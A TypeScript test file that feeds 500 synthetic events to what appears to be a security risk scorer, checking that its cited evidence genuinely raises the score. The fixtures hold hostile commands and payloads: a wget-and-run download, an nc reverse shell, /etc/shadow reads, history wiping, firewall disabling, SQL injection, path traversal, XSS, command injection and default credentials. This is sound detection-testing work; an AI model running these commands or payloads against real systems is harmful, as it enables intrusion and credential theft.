import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { DraftEvent, JsonObject } from '../../src/core/event.ts';
import { emptyHistory } from '../../src/core/history.ts';
import type { ScoreInput } from '../../src/core/scorer.ts';
import type { Evidence } from '../../src/core/verdict.ts';
import { sumOf } from '../../src/score/finding.ts';
import { collectFindings } from '../../src/score/judge.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { anyEvents } from '../support/score/cases.ts';
import { ask, bytes, command, draft, fileEvent, past, request, withModels } from '../support/score/events.ts';

/** The input without the evidence. */
function without(input: ScoreInput, { field, text }: Evidence): ScoreInput {
  if (field === 'history') return { ...input, history: emptyHistory, session: null };
  const cut = (value: string): string => (text === '' ? '' : value.split(text).join(''));
  const event: DraftEvent = { ...input.event };
  if (field === 'payload') event.payload = cut(event.payload);
  else if (field === 'activity') event.activity = cut(event.activity);
  else if (field.startsWith('extra.')) {
    const name = field.slice('extra.'.length);
    const value = event.extra?.[name];
    event.extra = { ...event.extra, [name]: typeof value === 'string' ? cut(value) : null } as JsonObject;
  } else if (event.agent) {
    const agent = { ...event.agent };
    const name = field as keyof typeof agent;
    assert.ok(name in agent, `evidence names the field ${field}`);
    agent[name] = cut(agent[name]);
    event.agent = agent;
  } else assert.fail(`evidence names the field ${field}`);
  return { ...input, event };
}

/** Half a thousand events put together from parts; the same each time. */
function* events(): Generator<ScoreInput> {
  const lines = [
    'cd /tmp; wget http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; rm a.sh',
    'uname -a',
    'cat /proc/cpuinfo | grep name | wc -l',
    'echo "root:Zx81" | chpasswd | bash',
    'cat /etc/shadow; cat /etc/passwd',
    'history -c; unset HISTFILE',
    'nc -e /bin/sh 198.51.100.7 4444',
    'systemctl stop firewalld; setenforce 0',
  ];
  const requests = [
    "GET /item?id=1' OR '1'='1 HTTP/1.1\r\nHost: shop\r\n\r\n",
    'GET /../../../../etc/passwd HTTP/1.1\r\nHost: shop\r\n\r\n',
    'GET /q?s=<script>alert(1)</script> HTTP/1.1\r\nHost: shop\r\n\r\n',
    'GET /.env HTTP/1.1\r\nHost: shop\r\n\r\n',
    'GET /ping?ip=1;cat%20/etc/passwd HTTP/1.1\r\nHost: shop\r\n\r\n',
    '1 UNION SELECT user,password FROM users--',
  ];
  const firstMs = Date.parse('2026-11-25T07:45:00.000Z');
  for (let number = 0; number < 500; number += 1) {
    const history =
      number % 3 === 0
        ? past({ events: number, failed_logins: number % 40, connections: number % 90, first_ms: firstMs })
        : emptyHistory;
    const pick = <T>(list: readonly T[]): T => list[(number * 7 + (number >> 3)) % list.length]!;
    const other = anyEvents[number % anyEvents.length]!;
    switch (number % 6) {
      case 0:
        yield ask(command(`${pick(lines)}; ${lines[number % lines.length]}`), { history });
        break;
      case 1:
        yield ask(request(pick(requests)), { history });
        break;
      case 2:
        yield ask(
          draft(number % 4 === 0 ? 'login.succeeded' : 'login.failed', {
            payload: 'root:xc3511',
            extra: { username: 'root', password: 'xc3511' },
          }),
          { history },
        );
        break;
      case 3:
        yield ask(fileEvent('file.copied', { action: 'COPIED', severity: 'HIGH' }, { process_name: 'scp' }), {
          history: past({ events: 5, honeytokens: number % 5 }),
        });
        break;
      case 4:
        yield ask(bytes(pick(requests)), { history });
        break;
      default:
        yield other;
    }
  }
}

describe('reasons', () => {
  const models = withModels();
  const scorer = openLocalScorer({ onWarning: assert.fail });
  const sum = (input: ScoreInput): number => sumOf(collectFindings(input, models).findings);

  it('are true: without the evidence that one names, the risk is lower (500 events)', () => {
    let checked = 0;
    for (const input of events()) {
      const verdict = scorer.judge(input);
      const before = sum(input);
      assert.ok(verdict.evidence.length > 0 || verdict.risk_score === 0);
      for (const evidence of verdict.evidence) {
        const after = sum(without(input, evidence));
        assert.ok(
          after < before,
          `${verdict.reasons[evidence.reason]} (${evidence.field}: ${JSON.stringify(evidence.text)}) of ${JSON.stringify(input.event.payload)}: ${before} → ${after}`,
        );
        checked += 1;
      }
    }
    assert.ok(checked > 1000, `only ${checked} pieces of evidence`);
  });

  it('quote the bytes as they stand in the event', () => {
    for (const input of events()) {
      const { evidence, reasons } = scorer.judge(input);
      for (const { field, text, reason } of evidence) {
        assert.ok(reasons[reason]);
        assert.ok(text.length <= 200);
        if (field === 'payload') assert.ok(input.event.payload.includes(text), text);
      }
    }
  });

  it('take the whole score along where all of them fall', () => {
    for (const input of events()) {
      const verdict = scorer.judge(input);
      // A score of 2 or less says that there is nothing to tell; half a point of it is no step.
      if (verdict.risk_score <= 2) continue;
      const rest = scorer.judge(verdict.evidence.reduce(without, input));
      assert.ok(
        rest.risk_score < verdict.risk_score,
        `${JSON.stringify(input.event)}: ${verdict.risk_score} → ${rest.risk_score} (${rest.reasons[0]})`,
      );
    }
  });
});
